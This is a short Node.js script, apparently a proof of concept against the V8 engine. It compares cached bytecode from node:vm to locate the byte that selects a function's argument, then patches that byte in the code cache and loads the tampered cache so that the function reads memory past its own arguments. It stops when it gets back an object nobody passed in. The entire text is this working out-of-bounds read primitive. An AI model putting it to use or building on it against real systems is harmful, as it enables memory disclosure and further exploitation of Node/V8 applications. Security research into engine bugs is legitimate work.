'use strict';
// V8 runs a code cache as it is given: an operand that is changed by hand reads past the function's own arguments.
const vm = require('node:vm');
const source = (name) => `(function (a, b, c) { return ${name}; })`;
const [first, second, third] = ['a', 'b', 'c'].map((name) => new vm.Script(source(name)).createCachedData());
const grows = (byte, i) => second[i] === byte + 1 && third[i] === byte + 2;
for (let at = first.findIndex(grows), operand = first[at] + 4; operand < first[at] + 12; operand++) {
  const cachedData = Buffer.from(first).fill(operand, at, at + 1);
  const script = new vm.Script(source('a'), { cachedData, filename: `${operand}` });
  if (script.cachedDataRejected) continue;
  const read = script.runInThisContext();
  const found = [() => 0, read(1, 2, 3)][1];
  if (typeof found === 'object') {
    console.log('an object that nobody gave it');
    break;
  }
}
